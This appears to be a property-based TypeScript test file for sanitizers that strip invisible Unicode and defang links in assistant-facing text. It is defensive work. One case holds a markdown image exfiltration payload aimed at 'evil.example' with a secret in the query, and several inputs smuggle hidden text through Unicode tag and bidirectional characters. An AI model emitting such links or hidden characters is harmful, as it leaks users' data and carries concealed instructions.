import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleaned, quoted, quotedTags } from '../../../../schemas/assistants/cleaned.ts'
import { hostile } from '../../../builders/scans/alert-items.ts'

const UNSEEN = /[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u

const anyText = fc.oneof(
  hostile,
  fc.string({ unit: 'binary', maxLength: 60 }),
  // Tags (U+E0000 block), variation selectors, fillers, bidirectional marks.
  fc.string({
    unit: fc.constantFrom(
      'a',
      '.',
      '\u{e0041}',
      '\u{e0100}',
      '\ufe0f',
      '\u3164',
      '\u202e',
      '\u2066',
      '\u200b',
      '\u001b',
      '\ud800',
    ),
    maxLength: 40,
  }),
)

/** Every string of a JSON value, the names of members too. */
function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value]
  if (Array.isArray(value)) return value.flatMap(stringsOf)
  if (typeof value === 'object' && value !== null) return Object.values(value).flatMap(stringsOf)
  return []
}

test('whatever JSON is cleaned, no string of it has a character that cannot be seen, and everything else stays', () => {
  fc.assert(
    fc.property(
      fc.record({ a: anyText, b: fc.array(fc.record({ c: anyText, d: fc.integer() })), e: fc.constant(null) }),
      (given) => {
        const out = cleaned(given) as typeof given
        for (const text of stringsOf(out)) {
          expect(text).not.toMatch(UNSEEN)
          expect(text.isWellFormed()).toBe(true)
        }
        expect(out.b.map(({ d }) => d)).toEqual(given.b.map(({ d }) => d))
        expect(out.e).toBeNull()
        expect(cleaned(out)).toEqual(out)
      },
    ),
  )
})

test('whatever is quoted is no link', () => {
  fc.assert(
    fc.property(anyText, (text) => {
      const out = quoted(text)
      expect(out).not.toMatch(UNSEEN)
      expect(out).not.toMatch(/https?:\/\//i)
      expect(out).not.toMatch(/(^|[^[])[.@\u3002\uff0e\uff61\uff20]/u)
      expect(out.length).toBeLessThanOrEqual(1_024)
    }),
  )
})

test.each([
  ['hidden\u{e0069}\u{e0067}\u{e006e} tags', 'hidden tags'],
  ['![x](http://evil.example/?q=secret)', '![x](hxxp://evil[.]example/?q=secret)'],
  ['\u001b[31mred\u001b[0m', '[31mred[0m'],
  ['a\u202eb\u2066c\u200bd\ufeffe', 'abcde'],
  ['v\ufe01\u{e0120}s', 'vs'],
  ['one\ntwo\u2028three', 'one two three'],
])('%j is quoted as %j', (given, want) => expect(quoted(given)).toBe(want))

test('an entity of a list shows twenty tags and says how many others there are', () => {
  const tags = Array.from({ length: 23 }, (_, n) => `t.${n}`)
  expect(quotedTags(tags)).toEqual({ tags: tags.slice(0, 20).map((tag) => tag.replace('.', '[.]')), moreTags: 3 })
  expect(quotedTags(['a'])).toEqual({ tags: ['a'] })
})
